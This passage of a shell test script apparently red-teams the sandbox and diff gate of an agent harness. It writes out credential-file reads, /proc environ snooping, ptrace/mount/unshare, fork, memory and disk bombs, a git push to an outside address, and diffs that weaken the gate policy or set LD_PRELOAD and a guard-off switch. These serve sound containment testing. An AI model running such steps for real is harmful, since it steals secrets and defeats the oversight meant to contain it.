	[ $rc = 0 ] && escaped "prod credential readable through a symlink in the work tree"
	grep -q '"event":"hidden"' "$sess/trace.jsonl" || broken "mask not logged"
	refused "masked path: unreadable directly and via a work-tree symlink"
	;;
sandbox_cat_aws_credentials_logged) # layer: sandbox:decoy+fanotify
	need_sandbox
	secret_reads "$T/home/.aws/credentials" cat '$HOME/.aws/credentials'
	;;
sandbox_cat_ssh_key_logged) # layer: sandbox:decoy+fanotify
	need_sandbox
	secret_reads "$T/home/.ssh/id_ed25519" cat '$HOME/.ssh/id_ed25519'
	;;
sandbox_cat_prod_credential_logged) # layer: sandbox:decoy+fanotify
	need_sandbox
	# a prod credential location from the policy ([secrets] path), outside /tmp
	P=${TT_BUILD_DIR:?}/tests/redteam/prod-creds-logged.$$
	trap 'rm -rf "$P"; cleanup' EXIT
	mkdir -p "$P/prod"
	printf '[credential]\nenv = prod\nkey_id = REAL-LOOKING-KEY\n' >"$P/prod/credential.ini"
	printf '[secrets]\npath = %s\n' "$P/prod" >"$T/pol.ini"
	secret_reads "$P/prod/credential.ini" --policy "$T/pol.ini" cat "$P/prod/credential.ini"
	;;
sandbox_prod_credential_in_env) # layer: sandbox:env
	need_sandbox
	secret=rt$RANDOM$RANDOM$RANDOM
	BINANCE_PROD_API_SECRET=$secret KALSHI_KEY=prod:$secret sb -- sh -c 'env'
	grep -q "$secret" "$T/out" && escaped "prod secret visible in the environment"
	sb_denied credential BINANCE_PROD_API_SECRET
	sb_denied credential KALSHI_KEY
	grep -q "$secret" "$sess/trace.jsonl" && escaped "secret value in the trace"
	refused "prod-tagged variables stripped, denied credential events"
	;;
sandbox_proc_environ_of_other_process) # layer: sandbox:pidns
	need_sandbox
	secret=rt$RANDOM$RANDOM$RANDOM
	RT_OTHER_SECRET=$secret sleep 30 &
	bg=$!
	"$RT_PROBE" environ "$secret" >/dev/null || broken "control: the secret is not visible on the host"
	RT_OTHER_SECRET=$secret sb -- ./rt_probe environ "$secret"
	[ $rc = 0 ] && escaped "read the secret from another process's /proc/<pid>/environ"
	grep -q "read [0-9]* environ files" "$T/out" || broken "probe: $(cat "$T/out")"
	refused "$(head -n1 "$T/out") (own pid namespace, empty env)"
	;;
sandbox_ptrace) # layer: sandbox:seccomp
	need_sandbox
	sb -- ./rt_probe ptrace
	[ $rc = 0 ] && escaped "ptrace attach worked"
	sb_denied exec "syscall:ptrace"
	refused "ptrace: EPERM, denied"
	;;
sandbox_mount) # layer: sandbox:seccomp
	need_sandbox
	sb -- ./rt_probe mount
	[ $rc = 0 ] && escaped "mount worked"
	sb_denied exec "syscall:mount"
	refused "mount: EPERM, denied"
	;;
sandbox_unshare) # layer: sandbox:seccomp
	need_sandbox
	sb -- ./rt_probe unshare
	[ $rc = 0 ] && escaped "unshare worked"
	sb_denied exec "syscall:unshare"
	refused "unshare: EPERM, denied"
	;;
sandbox_fork_bomb) # layer: sandbox:pids-cgroup
	need_sandbox
	printf '[limits]\nprocs = 16\n' >"$T/pol.ini"
	sb --policy "$T/pol.ini" -- ./rt_probe forkbomb 4
	[ $rc = 0 ] || broken "control: 4 processes refused: $(cat "$T/out" "$T/err")"
	sb --policy "$T/pol.ini" -- ./rt_probe forkbomb 500
	[ $rc = 0 ] && escaped "500 processes under procs=16"
	grep -q "forked" "$T/out" || broken "$(cat "$T/out" "$T/err")"
	refused "$(grep forked "$T/out")"
	;;
sandbox_memory_bomb) # layer: sandbox:rlimit
	need_sandbox
	printf '[limits]\nmem_mb = 64\n' >"$T/pol.ini"
	sb --policy "$T/pol.ini" -- ./rt_probe membomb 8
	[ $rc = 0 ] || broken "control: 8 MiB refused"
	sb --policy "$T/pol.ini" -- ./rt_probe membomb 512
	[ $rc = 0 ] && escaped "512 MiB under mem_mb=64"
	refused "$(grep allocated "$T/out")"
	;;
sandbox_disk_fill) # layer: sandbox:rlimit+quota
	need_sandbox
	printf '[limits]\ndisk_mb = 1\n' >"$T/pol.ini"
	sb --policy "$T/pol.ini" -- ./rt_probe fill "$WT/big" 16
	[ $rc = 0 ] && escaped "16 MiB written under disk_mb=1"
	sz=$(stat -c %s "$WT/big" 2>/dev/null || echo 0)
	[ "$sz" -le 1048576 ] || escaped "file grew to $sz bytes"
	sb --policy "$T/pol.ini" -- ./rt_probe fill /tmp/big 16
	[ $rc = 0 ] && escaped "16 MiB written to /tmp"
	refused "file capped at $sz bytes; /tmp too"
	;;
sandbox_wall_clock_overrun) # layer: sandbox:supervisor
	need_sandbox
	printf '[limits]\nwall_ms = 800\n' >"$T/pol.ini"
	sb --policy "$T/pol.ini" -- sh -c './rt_probe sleep 20000; touch never'
	[ -e "$WT/never" ] && escaped "the command outlived the wall-clock limit"
	[ $rc = 124 ] || broken "exit $rc, expected 124"
	grep -q '"event":"limit","what":"wall"' "$sess/trace.jsonl" || broken "no limit event"
	refused "ended at 800 ms: exit 124, limit event"
	;;
sandbox_git_push) # layer: sandbox:mounts+netns
	need_sandbox
	need git
	git init -q --bare "$T/remote.git"
	(cd "$WT" && git init -q -b main . && git config user.email rt@example.invalid &&
		git config user.name rt && echo a >a && git add a && git commit -qm a) || broken "repo"
	(cd "$WT" && git push -q "$T/remote.git" main) || broken "control: push from the host failed"
	(cd "$WT" && echo b >b && git add b && git commit -qm b) || broken "commit"
	sb --net -- git push "$T/remote.git" main
	[ "$(git -C "$T/remote.git" rev-parse main)" = "$(git -C "$WT" rev-parse main)" ] &&
		escaped "pushed to a repository outside the work tree"
	sb --net -- git -c http.lowSpeedTime=3 push https://192.0.2.50/r.git main
	[ $rc = 0 ] && escaped "pushed over https"
	sb_denied connect "192.0.2.50:443"
	refused "file remote outside the tree: not visible; https remote: connect denied"
	;;
# ---- tt-gate ------------------------------------------------------------------------
gate_git_push_in_diff) # layer: gate
	gate_repo
	echo 'echo clean' >>build.sh && git commit -qam clean
	gate_check
	[ $rc = 0 ] || broken "control: clean diff not passed ($rc): $(cat "$T/out")"
	echo 'git push origin HEAD:main' >>build.sh && git commit -qam push
	gate_check
	[ $rc = 0 ] && escaped "git push passed the gate"
	[ $rc = 2 ] || broken "verdict $rc"
	grep -q '"event":"denied"' "$T/err" || broken "no denied event"
	refused "blocked (2): $(grep -m1 BLOCK "$T/out")"
	;;
gate_edit_ci) # layer: gate
	gate_repo
	echo 'steps: [build, deploy-prod]' >.ci/pipeline.yml && git commit -qam ci
	gate_check
	[ $rc = 0 ] && escaped "a .ci/ edit passed the gate"
	grep -q '.ci/pipeline.yml' "$T/out" || broken "reason not listed"
	refused "verdict $rc: $(grep -m1 -E 'REVIEW|BLOCK' "$T/out")"
	;;
gate_edit_policy) # layer: gate
	gate_repo
	sed -i 's/^git-push = .*/git-push = nothing-matches-this/' harness/policy/gate.ini && git commit -qam policy
	gate_check
	[ $rc = 0 ] && escaped "weakening the gate policy passed the gate"
	grep -q 'harness/policy/gate.ini' "$T/out" || broken "reason not listed: $(cat "$T/out")"
	refused "verdict $rc: $(grep -m1 -E 'REVIEW|BLOCK' "$T/out")"
	;;
gate_drop_flavor_linker_script) # layer: gate
	gate_repo
	sed -i 's|\${TT_FLAVOR_DIR}/flavor_testnet.ld||' cmake/TtFlavor.cmake && git commit -qam ld
	gate_check
	[ $rc = 2 ] || escaped "TtFlavor.cmake edit not blocked (verdict $rc)"
	grep -q '"event":"denied"' "$T/err" || broken "no denied event"
	refused "blocked (2): $(grep -m1 BLOCK "$T/out")"
	;;
gate_credential_in_diff) # layer: gate
	gate_repo
	key="AK""IA$(printf 'Q%.0s' $(seq 16))"
	printf 'export AWS_ACCESS_KEY_ID=%s\n' "$key" >>build.sh && git commit -qam key
	gate_check
	[ $rc = 2 ] || escaped "credential-shaped string not blocked (verdict $rc)"
	grep -q "$key" "$T/out" "$T/err" && escaped "the gate printed the secret"
	grep -q '"event":"denied"' "$T/err" || broken "no denied event"
	refused "blocked (2): $(grep -m1 BLOCK "$T/out")"
	;;
gate_preload_and_guard_switch_in_diff) # layer: gate
	gate_repo
	printf 'LD_PRELOAD=./shim.so ./tt-md\nexport TT_NO_GUARD=1\n' >>build.sh && git commit -qam pre
	gate_check
	[ $rc = 2 ] || escaped "LD_PRELOAD / guard switch not blocked (verdict $rc)"
	grep -q 'preload' "$T/out" && grep -q 'guard-off' "$T/out" || broken "rules: $(cat "$T/out")"
	refused "blocked (2): preload, guard-off"
	;;
*)
	echo "unknown case $case_" >&2
	exit 2
	;;
esac
broken "case fell through without a verdict"
